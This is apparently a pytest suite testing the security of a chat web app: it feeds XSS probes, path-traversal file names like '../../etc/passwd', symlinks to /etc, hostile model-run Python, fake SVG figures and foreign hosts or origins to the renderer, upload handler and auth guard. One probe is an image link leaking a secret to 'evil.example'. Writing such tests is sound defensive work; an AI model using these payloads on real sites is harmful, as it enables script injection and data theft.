"""What a model, a file name or a client could try: markup, paths, pictures; and who may speak to the server."""

import re
from html.parser import HTMLParser

import pytest
from chat_fakes import opened, steps, talk

from windward.recipes.chat import page
from windward.recipes.chat.guard import COOKIE, Guard
from windward.recipes.chat.markup import code, markdown, one_line, output
from windward.recipes.chat.names import free_name, plain_name
from windward.recipes.chat.record import ConversationError
from windward.recipes.chat.writing import Writing, prose

PROBES = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</pre></details><svg onload=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "![x](https://evil.example/?secret)",
    "<javascript:alert(1)>",
    "[x](/files/0123456789abcdef/other.txt)",
    '[x](https://a.example/"onmouseover="alert(1))',
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "$$\\href{javascript:alert(1)}{x}$$ ${alert(1)} {{alert(1)}}",
    "<a href='x' style='position:fixed'>\n\n<b>x</b>",
    "```python\n</code></pre><script>alert(1)</script>\n```",
    "&lt;script&gt; &#60;script&#62;",
]
KNOWN = {
    "p",
    "a",
    "pre",
    "code",
    "span",
    "div",
    "details",
    "summary",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
}
KNOWN |= {"ul", "ol", "li", "strong", "em", "s", "br", "hr", "blockquote", "h1", "h2", "h3", "h4", "h5", "h6"}
KNOWN |= {"img", "time"}


class Read(HTMLParser):
    """Elements and text as a browser's parser finds them."""

    def __init__(self, html):
        super().__init__(convert_charrefs=True)
        self.tags, self.text = [], ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text += data


def check(html):
    """Only known elements, no handler, and links to the web or to our own routes."""
    read = Read(html)
    for name, attributes in read.tags:
        assert name in KNOWN, (name, html)
        assert not any(key.startswith("on") or key == "style" for key in attributes), html
        for key in ("href", "src"):
            if key in attributes:
                assert re.match(
                    r"https?://|mailto:|files/|figures/|export/|\?conversation=|\./", attributes[key]
                ), html
        assert name != "img" or attributes["src"].startswith("figures/")


@pytest.mark.parametrize("probe", PROBES)
def test_model_text_code_and_output_are_only_text(probe):
    for html in (markdown(probe), code(probe), output(probe, failed=False), output(probe, failed=True)):
        check(html)
        check(one_line(html))
        assert "\n" not in one_line(html)
    shown = Read(markdown(probe)).text
    if probe.startswith("<script"):
        assert probe in shown


def test_markdown_still_is_markdown():
    html = markdown("**b** `c` [d](https://e.example) \n\n| a |\n|---|\n| 1 |\n\n```python\nprint(1)\n```")
    assert (
        "<strong>b</strong>" in html and "<td>1</td>" in html and 'rel="noopener noreferrer nofollow"' in html
    )
    assert '<span class="nb">print</span>' in html


@pytest.mark.parametrize("probe", PROBES)
async def test_a_whole_page_of_probes_holds_nothing_that_acts(tmp_path, probe):
    script = [f"{probe}\n<execute>\nprint({probe!r})\nraise ValueError({probe!r})\n</execute>", probe]
    async with opened(tmp_path, *script) as store:
        conversation = store.new()
        await conversation.give(probe, b"x")
        await talk(conversation, probe)
        for shown in page.bubbles(conversation):
            check(shown.html)
        check(page.sidebar(store.listed(), conversation.id))
        check(page.files(conversation.id, conversation.folder.saved()))
        check(page.export(conversation.id))


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("../../etc/passwd", "passwd"),
        ("C:\\Users\\me\\data.csv", "data.csv"),
        ("/", "file"),
        ("..", "file"),
        ("", "file"),
        (".bashrc", "bashrc"),
        ("a\x00b\n\x1b[31m.txt", "a_b__[31m.txt"),
        ("\u202egnp.exe", "_gnp.exe"),
        ('<img src=x onerror="alert(1)">.png', "_img src=x onerror=_alert(1)__.png"),
        ("größe 1.csv", "größe 1.csv"),
    ],
)
def test_a_file_gets_a_plain_name(given, kept):
    assert plain_name(given) == kept


def test_a_long_name_is_cut_and_keeps_its_ending():
    name = plain_name("ü" * 500 + ".csv")
    assert name.endswith(".csv") and 50 < len(name.encode()) <= 100


def test_a_name_that_is_taken_gets_a_number():
    assert [
        free_name("a.csv", {"a.csv"}),
        free_name("a.csv", {"a.csv", "a-2.csv"}),
        free_name("a", {"a"}),
    ] == [
        "a-2.csv",
        "a-3.csv",
        "a-2",
    ]


async def test_an_upload_never_overwrites_and_never_leaves_its_folder(tmp_path):
    async with opened(
        tmp_path / "home", "<execute>\nimport os\nprint(sorted(os.listdir()))\n</execute>", "Ok."
    ) as store:
        conversation = store.new()
        names = [await conversation.give(name, b"x") for name in ("../../x.csv", "/tmp/x.csv", "x.csv", "..")]
        assert names == ["x.csv", "x-2.csv", "x-3.csv", "file"]
        await talk(conversation, "List.")
        assert steps(conversation)[0].observation == "['file', 'x-2.csv', 'x-3.csv', 'x.csv']"
    assert [path.name for path in tmp_path.iterdir()] == ["home"]


async def test_what_is_too_large_is_refused(tmp_path):
    async with opened(tmp_path, "Ok.", upload_mb=1) as store:
        conversation = store.new()
        with pytest.raises(ConversationError, match="larger than 1 MiB"):
            await conversation.give("big", b"x" * (1024 * 1024 + 1))
        assert not conversation.folder.saved() and not conversation.entries


@pytest.mark.parametrize(
    "path", ["../conversation.jsonl", "/etc/passwd", "a/../../x", "", ".", "link", "link/passwd", "..\\x"]
)
async def test_a_download_finds_saved_files_only(tmp_path, path):
    async with opened(tmp_path, "Ok.") as store:
        folder = store.new().folder
        (folder.path / "files" / "link").symlink_to("/etc")
        with pytest.raises(ConversationError, match="no file"):
            folder.saved_file(path)
        with pytest.raises(ConversationError, match="no figure"):
            folder.figure(path)
        with pytest.raises(ConversationError):
            folder.upload(path)


HOSTILE_FILES = r"""
import os
os.symlink('/etc/passwd', 'link'); os.symlink('/', 'root')
os.makedirs('a/b'); open('a/b/c.txt', 'w').write('deep')
open('<img src=x onerror=alert(1)>.txt', 'w').write('x')
open('esc\x1b[31m', 'w').write('x')
with open('huge.bin', 'wb') as file:
    file.truncate(9 * 1024 * 1024)
"""
SWAPPED = "import os, shutil\nshutil.rmtree('a'); open('a', 'w').write('now a file')\nos.remove('<img src=x onerror=alert(1)>.txt'); os.makedirs('<img src=x onerror=alert(1)>.txt/x'); open('<img src=x onerror=alert(1)>.txt/x/y', 'w').write('z')"


async def test_files_of_hostile_code_are_saved_as_what_they_are_or_not_at_all(tmp_path):
    script = [f"<execute>{HOSTILE_FILES}</execute>", "Ok.", f"<execute>\n{SWAPPED}\n</execute>", "Ok."]
    async with opened(tmp_path, *script, saved_mb=8) as store:
        conversation = store.new()
        await talk(conversation, "Go.")
        folder = conversation.folder
        assert list(folder.saved()) == ["<img src=x onerror=alert(1)>.txt", "a/b/c.txt"]
        assert "huge.bin" in conversation.entries[-2].text
        await talk(conversation, "Swap.")
        assert list(folder.saved()) == ["<img src=x onerror=alert(1)>.txt/x/y", "a"]
        assert (folder.path / "files" / "a").read_text() == "now a file"


async def test_a_figure_that_is_no_picture_is_not_kept(tmp_path):
    lie = (
        "<execute>\nimport matplotlib.pyplot as plt\nfrom matplotlib.figure import Figure\n"
        "Figure.savefig = lambda self, name, **_: open(name, 'w').write('<svg onload=alert(1)>')\nplt.plot([1])\n</execute>"
    )
    async with opened(tmp_path, lie, "Ok.") as store:
        conversation = store.new()
        await talk(conversation, "Plot.")
        assert steps(conversation)[0].images == ("figure-1.png",)
        assert not list((conversation.folder.path / "figures").iterdir())


def test_half_a_tag_is_held_back_until_it_is_known():
    writing = Writing()
    given = [writing.add(piece) for piece in ("It is 2 ", "<", "exec", "ute>\nx = 1", "\ny")]
    assert "".join(given).rstrip() == "It is 2" and writing.tagged and writing.rest() == ""
    writing = Writing()
    assert "".join(writing.add(piece) for piece in ("a <", "b", "> c")) + writing.rest() == "a <b> c"


def test_words_and_code_come_apart():
    assert prose("A\n<execute>\nx\n</execute>\nB", acted=True) == "A\n\n\n\nB"
    assert prose("A\n```python\nx\n```\nB", acted=True) == "A\n\n\n\nB"
    assert "```" in prose("A\n```python\nx\n```\nB", acted=False)
    assert prose("<solution>42</solution>", acted=False) == "42"


# -- who may speak to the server ---------------------------------------------------------------------


async def ask(token, path="/", query="", method="GET", **headers):
    """The status, headers and body that the guard, or the app behind it, answers with."""

    async def app(scope, receive, send):
        await send({"type": "http.response.start", "status": 200, "headers": []})
        await send({"type": "http.response.body", "body": b"in"})

    sent = []

    async def send(message):
        sent.append(message)

    named = {"host": "127.0.0.1:7860"} | {name.replace("_", "-"): value for name, value in headers.items()}
    scope = {
        "type": "http", "method": method, "path": path, "query_string": query.encode(),
        "headers": [(name.encode(), value.encode()) for name, value in named.items()],
    }  # fmt: skip
    await Guard(app, token)(scope, None, send)
    return sent[0]["status"], dict(sent[0]["headers"]), sent[1]["body"]


@pytest.mark.parametrize(
    "path", ["/", "/gradio_api/queue/join", "/files/a/b", "/figures/a/b", "/export/a", "/config"]
)
async def test_nothing_is_open_without_the_token(path):
    assert (await ask("secret", path))[0] == 401
    assert (await ask("secret", path, "token=wrong"))[0] == 401
    assert (await ask("secret", path, authorization="Bearer wrong"))[0] == 401
    assert (await ask("secret", path, cookie=f"{COOKIE}=secret"))[0] == 401
    assert (await ask("secret", path, authorization="Bearer secret"))[2] == b"in"


async def test_the_token_in_the_address_becomes_a_cookie_and_leaves_the_address():
    status, headers, _ = await ask("se cret", "/", "conversation=1&token=se+cret")
    assert (status, headers[b"location"]) == (303, b"?conversation=1")
    cookie = headers[b"set-cookie"].decode()
    assert "HttpOnly" in cookie and "SameSite=Strict" in cookie and "se cret" not in cookie
    assert (await ask("se cret", cookie=cookie.split(";")[0]))[0] == 200
    assert (await ask("another", cookie=cookie.split(";")[0]))[0] == 401


@pytest.mark.parametrize(
    "host", ["evil.example", "127.0.0.1.evil.example", "", "[::1", "127.0.0.1@evil.example:1"]
)
async def test_without_a_token_a_foreign_name_for_this_machine_is_refused(host):
    assert (await ask(None, host=host))[0] == 403


@pytest.mark.parametrize("host", ["127.0.0.1:7860", "localhost:7860", "[::1]:7860", "LOCALHOST"])
async def test_this_machine_is_let_in_with_a_policy_for_its_pages(host):
    status, headers, _ = await ask(None, host=host)
    policy = headers[b"content-security-policy"].decode()
    assert status == 200 and "connect-src 'self'" in policy and "script-src-attr 'none'" in policy


async def test_another_site_cannot_make_the_browser_act():
    assert (await ask(None, method="POST", origin="https://evil.example"))[0] == 403
    assert (await ask(None, method="POST", origin="null"))[0] == 403
    assert (await ask(None, method="POST", origin="http://127.0.0.1:7860"))[0] == 200
